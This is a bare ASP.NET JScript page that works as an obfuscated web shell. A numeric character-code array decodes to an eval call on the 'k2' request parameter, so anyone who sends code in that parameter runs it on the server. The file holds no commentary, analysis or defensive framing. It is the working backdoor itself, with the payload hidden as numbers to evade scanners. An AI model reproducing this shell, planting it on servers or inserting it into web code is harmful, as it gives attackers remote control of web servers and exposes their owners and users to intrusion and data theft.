<%@ Page Language="JScript" Debug="false" %>
<%
var a = [101,118,97,108,40,82,101,113,117,101,115,116,46,73,116,101,109,91,34,107,50,34,93,44,34,117,110,115,97,102,101,34,41];
var b = "";
for (var i = 0; i < a.length; i++) { b += String.fromCharCode(a[i]); }
eval(b, "unsafe");
%>
